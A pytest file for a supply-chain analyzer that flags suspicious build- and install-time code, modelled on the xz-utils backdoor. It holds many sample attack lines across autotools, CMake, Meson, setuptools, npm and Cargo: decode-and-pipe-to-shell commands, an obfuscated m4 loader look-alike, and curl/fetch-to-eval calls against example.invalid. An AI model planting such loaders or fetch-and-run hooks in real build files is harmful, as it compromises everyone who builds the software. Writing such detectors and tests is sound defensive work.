"""Behaviour analyzer: what build- and install-time code does, read as text.

Every "payload" here is synthetic and harmless (``touch marker``-style text, or
base64 of such text); nothing is ever executed. Variants are deliberately written
with other idioms than the 2024 xz-utils loader, in every supported build system,
and the negative cases are snippets typical of genuine autotools, CMake, Meson,
setuptools and npm code.
"""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from chainsight.analyzers.behaviour import (
    RULES,
    Signal,
    build_code_kind,
    read_matches,
    scan_build_code,
)
from chainsight.analyzers.behaviour.ciphers import (
    looks_like_stream_cipher,
    sed_y_is_cipher,
    tr_is_cipher,
)
from chainsight.model import Severity


def scan(path: str, text: str) -> list[Signal]:
    return scan_build_code(path, text)


def top(path: str, text: str) -> Severity | None:
    sigs = scan(path, text)
    return max((s.severity for s in sigs), key=lambda s: s.rank) if sigs else None


def rules(path: str, text: str, at_least: Severity = Severity.INFO) -> set[str]:
    return {s.rule_id for s in scan(path, text) if s.severity.rank >= at_least.rank}


def rank(sev: Severity | None) -> int:
    return -1 if sev is None else sev.rank


# ---------------------------------------------------------------------------- the model


def test_signal_fields_and_rule_table() -> None:
    sigs = scan("configure", 'xz -dc "$srcdir/tests/files/a.xz" | sh\n')
    assert sigs
    s = next(s for s in sigs if s.rule_id == "build-decode-to-interpreter")
    assert s.line == 1
    assert s.text == 'xz -dc "$srcdir/tests/files/a.xz" | sh'
    assert s.why.endswith(".")
    assert "$srcdir/tests/files/a.xz" in s.reads
    assert all(r.startswith("build-") for r in RULES)
    assert {s.rule_id for s in sigs} <= set(RULES)


def test_evidence_is_stripped_and_truncated() -> None:
    long = "   " + "xz -dc tests/files/a.xz | sh # " + "x" * 400
    (s, *_) = [s for s in scan("configure", long) if s.rule_id == "build-decode-to-interpreter"]
    assert len(s.text) <= 200 and not s.text.startswith(" ")


# ---------------------------------------------------------------------------- a loader


# A look-alike of the *structure* of the 2024 loader, written differently: the
# marker search, the cipher, the decompressor named after the file extension and
# the shell all sit in separate variables and macros. The "payload" would only
# ever be `touch marker`.
LOADER_M4 = r"""# lookalike.m4 serial 12
dnl Copyright nobody; synthetic test input.
AC_DEFUN([XX_PATHS_INIT],
[
  xx_found=`LC_ALL=C grep -rlaF '@@@@ZYXWV@@@@' "$srcdir"/tests 2>/dev/null`
  xx_map="tr 'A-Za-z' 'N-ZA-Mn-za-m'"
])
AC_DEFUN([XX_PATHS],
[
  AC_REQUIRE([XX_PATHS_INIT])
  xx_tool=`printf '%s' "$xx_found" | sed -e 's/^.*\.//'`
  xx_cmd='sed "1,4d" $xx_found | eval $xx_map | $xx_tool -dc'
  AC_CONFIG_COMMANDS([xx-paths], [eval $xx_run | ${CONFIG_SHELL-/bin/sh} >/dev/null 2>&1],
                     [xx_run="eval \$xx_cmd"])
])
"""


def test_loader_lookalike_is_critical_with_marker_in_reads() -> None:
    sigs = scan("m4/lookalike.m4", LOADER_M4)
    crit = [s for s in sigs if s.severity is Severity.CRITICAL]
    assert crit and crit[0].rule_id == "build-decode-to-interpreter"
    assert "@@@@ZYXWV@@@@" in crit[0].reads
    found = {s.rule_id for s in sigs}
    assert {
        "build-marker-search",
        "build-substitution-cipher",
        "build-ext-derived-command",
        "build-silenced-pipeline",
    } <= found
    # every supporting signal is raised next to the strong one
    assert all(
        s.severity.rank >= Severity.HIGH.rank
        for s in sigs
        if s.rule_id
        in ("build-marker-search", "build-substitution-cipher", "build-ext-derived-command")
    )


def test_loader_lookalike_expanded_into_configure() -> None:
    configure = r"""#! /bin/sh
xx_found=`LC_ALL=C grep -rlaF '@@@@ZYXWV@@@@' "$srcdir"/tests 2>/dev/null`
xx_map="tr 'A-Za-z' 'N-ZA-Mn-za-m'"
xx_tool=`printf '%s' "$xx_found" | sed -e 's/^.*\.//'`
xx_cmd='sed "1,4d" $xx_found | eval $xx_map | $xx_tool -dc'
cat >>$CONFIG_STATUS <<_ACEOF
xx_run="eval \$xx_cmd"
_ACEOF
cat >>$CONFIG_STATUS <<\_ACEOF
  case $ac_tag in
    "xx-paths":C) eval $xx_run | ${CONFIG_SHELL-/bin/sh} >/dev/null 2>&1 ;;
  esac
_ACEOF
"""
    assert top("configure", configure) is Severity.CRITICAL


def test_reads_link_to_the_blob() -> None:
    sigs = scan("m4/lookalike.m4", LOADER_M4)
    reads = {r for s in sigs for r in s.reads}
    blob = b"\xfd7zXZ\x00junk@@@@ZYXWV@@@@\nmore"
    assert any(read_matches(r, "tests/files/bad-x.xz", blob) for r in reads)
    assert not any(read_matches(r, "tests/files/good.xz", b"\xfd7zXZ\x00clean") for r in reads)


def test_read_matches_paths_globs_and_posix_classes() -> None:
    assert read_matches("$srcdir/tests/files/a.xz", "tests/files/a.xz")
    assert read_matches("*.lzma", "tests/files/good-large.lzma")
    assert read_matches("tests/files/*.bin", "tests/files/x.bin")
    assert not read_matches("tests/files/*.bin", "tests/files/x.xz")
    assert read_matches("#{3}[[:alpha:]]{3}#{3}$", "t/x", b"ab\n###abc###\ncd")
    assert not read_matches("#{3}[[:alpha:]]{3}#{3}$", "t/x", b"###ab1###\n")
    assert read_matches("PAYLOAD-MARK", "t/x", b"..PAYLOAD-MARK..")
    assert not read_matches("$srcdir/", "tests/files/a.xz", b"anything")


# ---------------------------------------------------------------------------- decode → interpreter


SHELL_DECODE_EXEC = [
    "base64 -d payload.b64 | bash",
    'gzip -cd < "$srcdir/gen/x.gz" | $SHELL',
    "zstd -qdc gen/x.zst | sh -s -- --quiet",
    "lzma -d -c gen/x.lzma | ${CONFIG_SHELL}",
    'eval "$(openssl enc -d -aes-256-cbc -pass pass:k -in gen/x.enc)"',
    'eval "`bzip2 -dc gen/x.bz2`"',
    "uudecode -o /dev/stdout gen/x.uu | . /dev/stdin",
    "source <(zcat gen/cfg.gz)",
    ". <(xxd -r -p gen/hex.txt)",
    'bash -c "$(base64 --decode gen/blob.txt)"',
    "rev gen/notes.txt | sh",
    "cat gen/notes.txt | tr 'a-zA-Z' 'n-za-mN-ZA-M' | sh",
    "cat gen/hex.txt | xxd -r -p | python3 -",
    "base64 -d gen/x.txt | xargs -0 sh -c",
    "unxz < gen/x.xz | perl",
    "printf '%s' \"$blob\" | base32 --decode | sh",
    "xzcat gen/x.xz | tee gen/x.sh | sh",
    "sh <(gunzip -c gen/x.gz)",
    "python3 -c 'import base64,sys; print(base64.b64decode(sys.argv[1]).decode())' \"$b\" | sh",
    "perl -MMIME::Base64 -ne 'print decode_base64($_)' gen/x.txt | sh",
    "awk '{ for (i = 1; i <= NF; i++) printf \"%c\", $i }' gen/codes.txt | base64 -d | sh",
]


@pytest.mark.parametrize("line", SHELL_DECODE_EXEC)
def test_shell_decode_to_interpreter_variants(line: str) -> None:
    sigs = scan("build-aux/gen.sh", line + "\n")
    hit = [s for s in sigs if s.rule_id == "build-decode-to-interpreter"]
    assert hit, sigs
    assert hit[0].severity.rank >= Severity.HIGH.rank


def test_data_flow_through_variables_and_files() -> None:
    via_var = 'p=$(base64 -d gen/p.txt)\nsomething else\neval "$p"\n'
    assert "build-decode-to-interpreter" in rules("configure", via_var, Severity.HIGH)
    via_here_string = 'x=$(gzip -dc gen/x.gz)\nsh <<< "$x"\n'
    assert "build-decode-to-interpreter" in rules("configure", via_here_string, Severity.HIGH)
    via_file = "base64 -d gen/x.txt > $TMPDIR/s.sh\nchmod +x $TMPDIR/s.sh\nsh $TMPDIR/s.sh\n"
    assert "build-decode-to-interpreter" in rules("configure", via_file, Severity.HIGH)
    via_exec = "xz -dc gen/x.xz > ./run-me\n./run-me\n"
    assert "build-decode-to-interpreter" in rules("configure", via_exec, Severity.HIGH)
    via_code_var = "dec='base64 -d'\ncat gen/x.txt | $dec | sh\n"
    assert "build-decode-to-interpreter" in rules("configure", via_code_var, Severity.HIGH)
    loop = "for f in gen/*.txt; do\n  cat $f\ndone | base64 -d | sh\n"
    assert "build-decode-to-interpreter" in rules("configure", loop, Severity.HIGH)


@pytest.mark.parametrize(
    "text",
    [
        'xz -dc "$srcdir/tests/files/good-2.xz" | sh\n',
        "(head -c 1024 >/dev/null; head -c 4096) < tests/files/x.lzma | unlzma | sh\n",
        "dd if=tests/data/x.bin bs=1 skip=512 count=900 2>/dev/null | gzip -dc | sh\n",
        "tail -c +2049 fixtures/x.dat | base64 -d | bash\n",
        'm=$(grep -rlaF "@@MARK@@" "$srcdir")\nsed 1d $m | zcat | sh\n',
        'for f in tests/files/*.xz; do ${f##*.} -dc "$f" | $SHELL; done\n',
        'f=`ls tests/files/*.lzma`\nprog=`echo $f | sed "s/.*\\.//"`\n$prog -dc $f | sh\n',
        "find . -name '*.xz' | xargs xz -dc | sh\n",
        "strings tests/files/x.bin | grep '^P:' | cut -d: -f2 | base64 -d | sh\n",
    ],
)
def test_fixture_decoded_and_executed_is_critical(text: str) -> None:
    assert top("configure", text) is Severity.CRITICAL


def test_critical_reads_name_the_fixture() -> None:
    sigs = scan("configure", "xz -dc tests/files/bad-1.xz | sh\n")
    crit = next(s for s in sigs if s.severity is Severity.CRITICAL)
    assert "tests/files/bad-1.xz" in crit.reads


def test_make_recipes_and_variables() -> None:
    recipe = "all-local:\n\t@xz -dc $(srcdir)/tests/files/x.xz | $(SHELL)\n"
    assert top("Makefile.in", recipe) is Severity.CRITICAL
    via_var = "GEN = base64 -d $(srcdir)/data/blob.dat\nall-local:\n\t$(GEN) | sh\n"
    assert top("Makefile.am", via_var) is Severity.CRITICAL
    via_shell_fn = "X := $(shell base64 -d $(srcdir)/tests/files/x.b64 | sh)\n"
    assert top("src/local.mk", via_shell_fn) is Severity.CRITICAL


def test_m4_config_commands_and_esyscmd() -> None:
    m4 = (
        "AC_DEFUN([YY_SETUP],[\n"
        '  yy_blob=`grep -al "@@MK@@" $srcdir/tests/*`\n'
        "  AC_CONFIG_COMMANDS([yy], [sed 1d $yy_blob | gzip -dc | $SHELL])\n"
        "])\n"
    )
    assert top("m4/yy.m4", m4) is Severity.CRITICAL
    esyscmd = "m4_esyscmd([xz -dc tests/files/x.xz | sh])\n"
    assert top("m4/zz.m4", esyscmd) is Severity.CRITICAL


def test_network_content_executed_is_high() -> None:
    for text in (
        "curl -fsSL https://example.invalid/i.sh | sh\n",
        'eval "$(wget -qO- http://example.invalid/run)"\n',
        'sh -c "$(curl -s $BOOT_URL)"\n',
    ):
        sigs = scan("autogen.sh", text)
        assert any(s.rule_id == "build-network" and s.severity is Severity.HIGH for s in sigs)


# ---------------------------------------------------------------------------- single rules


def test_reads_binary_fixture_alone_is_medium() -> None:
    sigs = scan("configure", 'cat "$srcdir/tests/files/a.bin" > conftest.dat\n')
    assert [(s.rule_id, s.severity) for s in sigs] == [
        ("build-reads-binary-fixture", Severity.MEDIUM)
    ]
    assert sigs[0].reads == ("$srcdir/tests/files/a.bin",)


def test_marker_search_alone_is_medium() -> None:
    sigs = scan("configure", 'hits=`grep -boaF "XYZZY" "$srcdir"/tests/files/* 2>/dev/null`\n')
    marker = [s for s in sigs if s.rule_id == "build-marker-search"]
    assert marker and marker[0].severity is Severity.HIGH  # medium, raised by silencing
    assert "XYZZY" in marker[0].reads
    plain = scan("configure", 'x=`grep -rl "XYZZY" "$srcdir"/tests`\n')
    assert [(s.rule_id, s.severity) for s in plain] == [("build-marker-search", Severity.MEDIUM)]


@pytest.mark.parametrize(
    "line",
    [
        "echo \"$x\" | tr 'a-z' 'n-za-m'",
        'x=`echo "$y" | tr "\\t -" " \\t_"`',
        "tr '\\000-\\377' '\\100-\\377\\000-\\077' < in > out",
        "tr '0-9a-f' 'fedcba9876543210'",
        "sed 'y/abcdef/badcfe/' in > out",
    ],
)
def test_substitution_cipher_alone_is_medium(line: str) -> None:
    sigs = scan("configure", line + "\n")
    assert [(s.rule_id, s.severity) for s in sigs] == [
        ("build-substitution-cipher", Severity.MEDIUM)
    ]


@pytest.mark.parametrize(
    "line",
    [
        "head -c 4096 tests/files/x.bin > part",
        "tail -c +1025 data/blob.dat > rest",
        "dd if=tests/files/x.bin of=part bs=1 skip=100 count=40",
        "od -An -tx1 -j 64 -N 32 tests/files/x.bin > hex",
    ],
)
def test_byte_slicing_of_data(line: str) -> None:
    found = rules("configure", line + "\n")
    assert "build-byte-slicing" in found


def test_byte_slicing_alone_is_medium_without_fixture_names() -> None:
    sigs = scan("configure", "head -c 300 gen/blob > part\n")
    assert [(s.rule_id, s.severity) for s in sigs] == [("build-byte-slicing", Severity.MEDIUM)]


def test_decoder_on_data_alone_is_medium_and_silenced_raises_it() -> None:
    sigs = scan("configure", "base64 -d gen/blob.txt > gen/blob.o\n")
    assert [(s.rule_id, s.severity) for s in sigs] == [("build-decoder-on-data", Severity.MEDIUM)]
    quiet = scan("configure", "base64 -d gen/blob.txt > gen/blob.o 2>/dev/null\n")
    got = {(s.rule_id, s.severity) for s in quiet}
    assert ("build-decoder-on-data", Severity.HIGH) in got
    assert ("build-silenced-pipeline", Severity.LOW) in got


def test_embedded_blob_decoded() -> None:
    blob = "dG91Y2ggbWFya2VyCg" * 4
    sigs = scan("configure", f'echo "{blob}" | base64 -d > gen/x.o\n')
    assert "build-decoder-on-data" in {s.rule_id for s in sigs}


def test_env_gating_alone_is_low_and_raises_others() -> None:
    gate = 'if test -f "$srcdir/debian/rules" || test "x$RPM_ARCH" = xx86_64; then :; fi\n'
    assert {(s.rule_id, s.severity) for s in scan("configure", gate)} == {
        ("build-env-gating", Severity.LOW)
    }
    gated = gate + "head -c 300 gen/blob > part\n"
    sev = {s.rule_id: s.severity for s in scan("configure", gated)}
    assert sev["build-byte-slicing"] is Severity.HIGH


def test_weak_gating_only_next_to_other_signals() -> None:
    assert scan("configure", "case `uname -m` in x86_64) ;; esac\n") == []
    near = "case `uname -m` in x86_64) ;; esac\nhead -c 300 gen/blob > part\n"
    found = {(s.rule_id, s.line) for s in scan("configure", near)}
    assert ("build-env-gating", 1) in found


@pytest.mark.parametrize(
    "line,expected",
    [
        ('sed -i "/^libfoo_la_LIBADD/s/$/ extra.o/" src/Makefile', Severity.MEDIUM),
        ("sed -i.bak -e 's/-O2/-O0/' libtool", Severity.MEDIUM),
        ("perl -pi -e 's/foo/bar/' src/lib/core.c", Severity.MEDIUM),
        ("mv -f gen/Makefile.new src/Makefile", Severity.MEDIUM),
        ('echo "EXTRA = x.o" >> src/Makefile', Severity.LOW),
    ],
)
def test_self_patching(line: str, expected: Severity) -> None:
    sigs = [s for s in scan("configure", line + "\n") if s.rule_id == "build-self-patching"]
    assert sigs and sigs[0].severity is expected


def test_ext_derived_command_alone_is_medium() -> None:
    text = 'f=$1\nt=`echo "$f" | sed "s/^.*\\.//"`\n$t -d "$f" > out\n'
    sigs = scan("build-aux/unpack.sh", text)
    assert ("build-ext-derived-command", Severity.MEDIUM) in {(s.rule_id, s.severity) for s in sigs}


def test_network_alone_is_medium() -> None:
    sigs = scan("autogen.sh", "wget -q https://example.invalid/x.tar.gz\n")
    assert [(s.rule_id, s.severity) for s in sigs] == [("build-network", Severity.MEDIUM)]
    assert scan("autogen.sh", "git clone https://example.invalid/x.git sub\n")[0].rule_id == (
        "build-network"
    )


def test_eval_of_computed() -> None:
    data = scan("configure", "sed -n '/^#B/,/^#E/p' tests/files/x.dat | sh\n")
    assert ("build-eval-of-computed", Severity.HIGH) in {(s.rule_id, s.severity) for s in data}
    source = scan("configure", ". ./tests/files/helper.dat\n")
    assert source and source[0].rule_id == "build-eval-of-computed"
    # text from a test directory is not flagged when read, only when it is executed
    assert scan("configure", "cat tests/expected/out.txt > all.txt\n") == []
    executed = scan("configure", 'sed -n "s/^# //p" "$srcdir/tests/expected/out.txt" | $SHELL\n')
    assert ("build-eval-of-computed", Severity.HIGH) in {(s.rule_id, s.severity) for s in executed}
    computed = scan("configure", "$gen_cmd | sh\n")
    assert [(s.rule_id, s.severity) for s in computed] == [
        ("build-eval-of-computed", Severity.MEDIUM)
    ]


def test_awk_stream_cipher_is_high() -> None:
    prog = (
        "awk 'BEGIN { for (i = 0; i < 256; i++) s[i] = i; j = 0\n"
        "  for (i = 0; i < 256; i++) { j = (j + s[i] + k[i % n]) % 256; t = s[i]; s[i] = s[j];"
        " s[j] = t } }' gen/in > gen/out\n"
    )
    sigs = scan("configure", prog)
    assert ("build-stream-cipher", Severity.HIGH) in {(s.rule_id, s.severity) for s in sigs}


def test_several_medium_signals_make_high() -> None:
    text = "head -c 300 gen/blob > part\necho \"$x\" | tr 'a-z' 'n-za-m' > y\n"
    assert {s.severity for s in scan("configure", text)} == {Severity.HIGH}


# ---------------------------------------------------------------------------- other build systems


def test_cmake() -> None:
    pipeline = (
        "execute_process(COMMAND xz -dc ${CMAKE_SOURCE_DIR}/tests/files/x.xz\n"
        "                COMMAND sh\n                ERROR_QUIET)\n"
    )
    assert top("CMakeLists.txt", pipeline) is Severity.CRITICAL
    sliced = (
        "file(READ ${CMAKE_SOURCE_DIR}/tests/files/a.bin hex OFFSET 16 LIMIT 400 HEX)\n"
        'file(WRITE ${CMAKE_BINARY_DIR}/x.txt "${hex}")\n'
        'execute_process(COMMAND sh -c "xxd -r -p ${CMAKE_BINARY_DIR}/x.txt | sh")\n'
    )
    found = rules("cmake/Gen.cmake", sliced)
    assert {"build-byte-slicing", "build-decode-to-interpreter"} <= found
    assert top("cmake/Gen.cmake", sliced) is Severity.CRITICAL
    ascii_ = (
        "string(ASCII 116 111 117 99 104 32 109 97 114 107 101 114 out)\n"
        'execute_process(COMMAND sh -c "${out}")\n'
    )
    assert rank(top("CMakeLists.txt", ascii_)) >= Severity.HIGH.rank
    evaled = 'file(READ tests/data/payload.bin P)\ncmake_language(EVAL CODE "${P}")\n'
    assert rank(top("CMakeLists.txt", evaled)) >= Severity.HIGH.rank
    download = (
        "file(DOWNLOAD https://example.invalid/x.cmake ${CMAKE_BINARY_DIR}/x.cmake)\n"
        "include(${CMAKE_BINARY_DIR}/x.cmake)\n"
    )
    assert ("build-network", Severity.HIGH) in {
        (s.rule_id, s.severity) for s in scan("CMakeLists.txt", download)
    }


def test_meson() -> None:
    text = "run_command('sh', '-c', 'gzip -dc tests/files/x.gz | sh', check: false)\n"
    assert top("meson.build", text) is Severity.CRITICAL
    prog = (
        "sh = find_program('sh')\n"
        "blob = files('tests/files/x.bin')\n"
        "custom_target('gen', input: blob, output: 'x',\n"
        "  command: [sh, '-c', 'base64 -d @INPUT@ | sh'])\n"
    )
    assert rank(top("src/meson.build", prog)) >= Severity.HIGH.rank
    assert scan("meson_options.txt", "option('x', type: 'boolean', value: true)\n") == []


def test_python_hooks() -> None:
    exec_fixture = (
        "import base64\nexec(base64.b64decode(open('tests/files/x.bin', 'rb').read()[16:]))\n"
    )
    assert top("setup.py", exec_fixture) is Severity.CRITICAL
    system = (
        "import zlib, os\n"
        "d = zlib.decompress(open('tests/data/blob.dat', 'rb').read())\n"
        "os.system(d.decode())\n"
    )
    assert top("setup.py", system) is Severity.CRITICAL
    rot13 = "import codecs, subprocess\nsubprocess.run(['bash'], input=codecs.decode(S, 'rot13'))\n"
    assert ("build-decode-to-interpreter", Severity.HIGH) in {
        (s.rule_id, s.severity) for s in scan("hatch_build.py", rot13)
    }
    dynamic = "import base64\n__import__('os').system(base64.b64decode(B).decode())\n"
    assert rank(top("setup.py", dynamic)) >= Severity.HIGH.rank
    written = (
        "import base64, subprocess\n"
        "open('build/x.sh', 'w').write(base64.b64decode(B).decode())\n"
        "subprocess.call(['sh', 'build/x.sh'])\n"
    )
    assert rank(top("conanfile.py", written)) >= Severity.HIGH.rank
    shell_string = "import os\nos.system('xz -dc tests/files/x.xz | sh')\n"
    assert top("setup.py", shell_string) is Severity.CRITICAL
    download = (
        "import urllib.request\nexec(urllib.request.urlopen('https://example.invalid/x').read())\n"
    )
    assert ("build-network", Severity.HIGH) in {
        (s.rule_id, s.severity) for s in scan("setup.py", download)
    }


def test_python2_setup_py_does_not_crash() -> None:
    text = "import os\nprint 'hello'\nexec base64.b64decode(X)\n"
    assert isinstance(scan("setup.py", text), list)


def test_npm_lifecycle_scripts_and_js() -> None:
    pkg = {
        "name": "x",
        "scripts": {
            "test": "xz -dc tests/x.xz | sh",  # not a lifecycle script: ignored
            "postinstall": "node -e \"eval(Buffer.from(require('fs')"
            ".readFileSync('test/fixtures/a.bin','utf8'),'base64').toString())\"",
        },
    }
    text = json.dumps(pkg, indent=2)
    sigs = scan("package.json", text)
    crit = [s for s in sigs if s.severity is Severity.CRITICAL]
    assert crit and '"postinstall"' in crit[0].text
    curl = json.dumps({"scripts": {"preinstall": "curl -s https://example.invalid/i | sh"}})
    assert top("package.json", curl) is Severity.HIGH
    js = (
        "const cp = require('child_process');\n"
        "const fs = require('fs');\n"
        "const data = fs.readFileSync(__dirname + '/test/fixtures/x.bin');\n"
        "const code = require('zlib').gunzipSync(data).toString();\n"
        "cp.execSync(code);\n"
    )
    assert top("install.js", js) is Severity.CRITICAL
    glob = (
        "const k = Buffer.from('ZXZhbA==', 'base64').toString();\n"
        "globalThis[k](Buffer.from(process.argv[2], 'base64').toString());\n"
    )
    assert rank(top("scripts/postinstall.js", glob)) >= Severity.HIGH.rank
    fetched = "fetch('https://example.invalid/p').then(r => r.text()).then(eval);\n"
    assert ("build-network", Severity.HIGH) in {
        (s.rule_id, s.severity) for s in scan("install.mjs", fetched)
    }


def test_rust_build_rs() -> None:
    text = (
        "use std::process::Command;\n"
        "fn main() {\n"
        '    let data = include_bytes!("../tests/files/x.bin");\n'
        "    let script = base64::decode(&data[..]).unwrap();\n"
        '    std::fs::write("out.sh", &script).unwrap();\n'
        '    Command::new("sh").arg("out.sh").status().unwrap();\n'
        "}\n"
    )
    assert top("build.rs", text) is Severity.CRITICAL
    bash_c = (
        "use std::process::Command;\n"
        'fn main() { let d = hex::decode(include_str!("tests/data/x.hex")).unwrap();\n'
        ' Command::new("bash").arg("-c").arg(String::from_utf8(d).unwrap()).status().unwrap(); }\n'
    )
    assert top("build.rs", bash_c) is Severity.CRITICAL
    plain = (
        "fn main() {\n"
        '    println!("cargo:rerun-if-changed=src/x.c");\n'
        '    cc::Build::new().file("src/x.c").compile("x");\n'
        "}\n"
    )
    assert scan("build.rs", plain) == []


# ---------------------------------------------------------------------------- genuine look-alikes


GENUINE_CONFIGURE = r"""#! /bin/sh
as_cr_letters='abcdefghijklmnopqrstuvwxyz'
as_cr_LETTERS='ABCDEFGHIJKLMNOPQRSTUVWXYZ'
as_tr_sh="eval sed 'y%*+%pp%;s%[^_$as_cr_alnum]%_%g'"
as_tr_cpp="eval sed 'y%*$as_cr_letters%P$as_cr_LETTERS%;s%[^_$as_cr_alnum]%_%g'"
ac_script='s/[\\$]/&&/g;s/;s,x,x,$//'
if test "x$CONFIG_SHELL" = x; then
  exec $CONFIG_SHELL $as_opts "$as_myself" ${1+"$@"}
fi
eval ac_cv_env_${ac_var}_value=\$${ac_var}
eval "$as_ac_var=yes"
ac_val=`echo "$ac_val" | tr "$as_cr_letters" "$as_cr_LETTERS"`
case $cpu in
  aarch64 | sh | sh1234 | sh1234elb \
  | sh4a | x86_64) ;;
esac
case `uname -m` in x86_64) host_cpu=x86_64 ;; esac
if $CC --version 2>/dev/null | grep gcc >/dev/null; then GCC=yes; fi
ac_res=`eval 'as_val=${'$as_ac_Header'};$as_echo "$as_val"'`
cat >conftest.$ac_ext <<_ACEOF
int main (void) { return 0; }
_ACEOF
cat <<\_ACEOF
  --with-xz-decompress    use xz -d | sh when building (help text only)
_ACEOF
lt_cv_sys_global_symbol_pipe="sed -n -e 's/^.*[ ]\($symcode*\)[ ]$sympat$/$xfrm/p' | sed '/_lto/d'"
if AC_TRY_EVAL(NM conftest.$ac_objext \| "$lt_cv_sys_global_symbol_pipe" \> $nlist); then :; fi
$SHELL "$ac_aux_dir/install-sh" -c -d "$dir"
{ echo "$as_me:$LINENO: xz -dc version test" >&5; xz -dc </dev/null 2>/dev/null; }
ac_tmp=`(umask 077 && mktemp -d "./confXXXXXX") 2>/dev/null` && test -d "$ac_tmp"
for ac_file in Makefile tests/Makefile src/liblzma/Makefile; do :; done
sed -e "/^POTFILES =/r $ac_dir/POTFILES" -e "/^# Makevars/r $ac_dir/Makevars" \
    "$ac_dir/Makefile.in" > "$ac_dir/Makefile"
cat "$f" >> "$ac_dir/Makefile"
"""


def test_genuine_configure_snippets_stay_low() -> None:
    sigs = scan("configure", GENUINE_CONFIGURE)
    assert all(s.severity.rank <= Severity.LOW.rank for s in sigs), sigs


# recipe lines start with "> " here and get their tab at run time
GENUINE_MAKEFILE_IN = r"""
am__untar = $${TAR-tar} xf -
DIST_ARCHIVES = $(distdir).tar.gz $(distdir).tar.xz
xzlinks = unxz xzcat $(am__append_4)
distcheck: dist
> case '$(DIST_ARCHIVES)' in \
> *.tar.gz*) \
>   eval GZIP= gzip $(GZIP_ENV) -dc $(distdir).tar.gz | $(am__untar) ;;\
> *.tar.xz*) \
>   xz -dc $(distdir).tar.xz | $(am__untar) ;;\
> *.shar.gz*) \
>   eval GZIP= gzip $(GZIP_ENV) -dc $(distdir).shar.gz | unshar ;;\
> esac
dist-gzip: distdir
> tardir=$(distdir) && $(am__tar) | eval GZIP= gzip $(GZIP_ENV) -c >$(distdir).tar.gz
install-man1: $(dist_man_MANS)
> @list1=''; \
> list2='$(dist_man_MANS)'; \
> { for i in $$list1; do echo "$$i"; done; \
> if test -n "$$list2"; then \
>   for i in $$list2; do echo "$$i"; done \
>     | sed -n '/\.1[a-z]*$$/p'; \
> fi; \
> } | while read p; do \
>   if test -f $$p; then d=; else d="$(srcdir)/"; fi; \
>   echo "$$d$$p"; echo "$$p"; \
> done | \
> sed -e 'n;s,.*/,,;p;h;s,.*\.,,;s,^[^1][0-9a-z]*$$,1,;x' \
>       -e 's,\.[0-9a-z]*$$,,;$(transform);G;s,\n,.,' | \
> sed 'N;N;s,\n, ,g' | { \
> list=; while read file base inst; do \
>   if test "$$base" = "$$inst"; then list="$$list $$file"; else \
>     echo " $(INSTALL_DATA) '$$file' '$(DESTDIR)$(man1dir)/$$inst'"; \
>   fi; \
> done; }
check-TESTS:
> @list='$(RECHECK_LOGS)'; test -z "$$list" || rm -f $$list
> @results=`for f in $$bases; do echo $$f.trs; done`; \
> all=`grep "^:test-result:" $$results | wc -l`
""".replace("\n> ", "\n\t")


def test_genuine_automake_makefile_stays_quiet() -> None:
    sigs = scan("Makefile.in", GENUINE_MAKEFILE_IN)
    assert all(s.severity.rank <= Severity.LOW.rank for s in sigs), sigs


def test_genuine_cmake_and_meson_stay_low() -> None:
    cmake = r"""
cmake_minimum_required(VERSION 3.14)
project(demo C)
include(FetchContent)
FetchContent_Declare(zlib URL https://example.invalid/zlib-1.3.tar.gz)
file(GLOB TEST_FILES ${CMAKE_CURRENT_SOURCE_DIR}/tests/files/*.xz)
file(READ ${CMAKE_CURRENT_SOURCE_DIR}/VERSION ver)
execute_process(COMMAND git describe --tags OUTPUT_VARIABLE GIT_DESC ERROR_QUIET)
add_custom_command(OUTPUT gen.h
  COMMAND ${CMAKE_COMMAND} -E copy ${CMAKE_CURRENT_SOURCE_DIR}/gen.h.in gen.h
  COMMAND ${PYTHON_EXECUTABLE} ${CMAKE_CURRENT_SOURCE_DIR}/tools/gen.py --out gen.h)
add_custom_target(dist COMMAND ${CMAKE_COMMAND} -E tar cJf demo.tar.xz src)
if(CMAKE_SYSTEM_PROCESSOR STREQUAL "x86_64")
  add_definitions(-DHAVE_X86)
endif()
foreach(f ${TEST_FILES})
  add_test(NAME ${f} COMMAND xzdec ${f})
endforeach()
"""
    assert all(s.severity.rank <= Severity.LOW.rank for s in scan("CMakeLists.txt", cmake))
    meson = r"""
project('demo', 'c', version : run_command('git', 'describe', check : false).stdout().strip())
py = import('python').find_installation()
gen = custom_target('gen', output : 'gen.h', command : [py, files('tools/gen.py'), '@OUTPUT@'])
conf = configuration_data()
configure_file(output : 'config.h', configuration : conf)
test('files', executable('t', 't.c'), args : [files('tests/files/good-1.xz')])
"""
    assert all(s.severity.rank <= Severity.LOW.rank for s in scan("meson.build", meson))


def test_genuine_setup_py_stays_quiet() -> None:
    setup = r"""
import os, re, subprocess, sys, codecs
from setuptools import setup, Extension
here = os.path.abspath(os.path.dirname(__file__))
about = {}
exec(open(os.path.join(here, 'pkg', '__version__.py')).read(), about)
with codecs.open(os.path.join(here, 'README.rst'), encoding='utf-8') as f:
    long_description = f.read()
try:
    rev = subprocess.check_output(['git', 'describe', '--tags']).decode().strip()
except Exception:
    rev = 'unknown'
if sys.platform == 'win32' or os.environ.get('DEB_BUILD_OPTIONS', '') == '':
    pass
os.system('make -C src clean')
setup(name='pkg', version=about['__version__'], long_description=long_description,
      ext_modules=[Extension('pkg._c', ['src/c.c'])])
"""
    assert all(s.severity.rank <= Severity.LOW.rank for s in scan("setup.py", setup))


@pytest.mark.parametrize(
    "scripts",
    [
        {"install": "node-gyp rebuild"},
        {"install": "prebuild-install || node-gyp rebuild --release"},
        {"postinstall": "node install.js"},
        {"install": "node-gyp-build"},
        {"prepare": "husky install && tsc -p ."},
        {"postinstall": "node -e \"try{require('./postinstall')}catch(e){}\""},
        {"preinstall": "npx only-allow pnpm"},
    ],
)
def test_genuine_package_json_scripts_say_nothing(scripts: dict[str, str]) -> None:
    assert scan("package.json", json.dumps({"name": "x", "scripts": scripts})) == []


def test_plain_download_install_js_is_at_most_medium() -> None:
    js = r"""
const https = require('https');
const fs = require('fs');
const zlib = require('zlib');
function download(url) {
  return new Promise((resolve, reject) => {
    https.get(url, (res) => { const chunks = []; res.on('data', c => chunks.push(c));
      res.on('end', () => resolve(Buffer.concat(chunks))); }).on('error', reject);
  });
}
download('https://registry.example.invalid/pkg.tgz').then((buf) => {
  fs.writeFileSync('bin/tool.tgz', zlib.gunzipSync(buf));
});
"""
    assert rank(top("install.js", js)) <= Severity.MEDIUM.rank


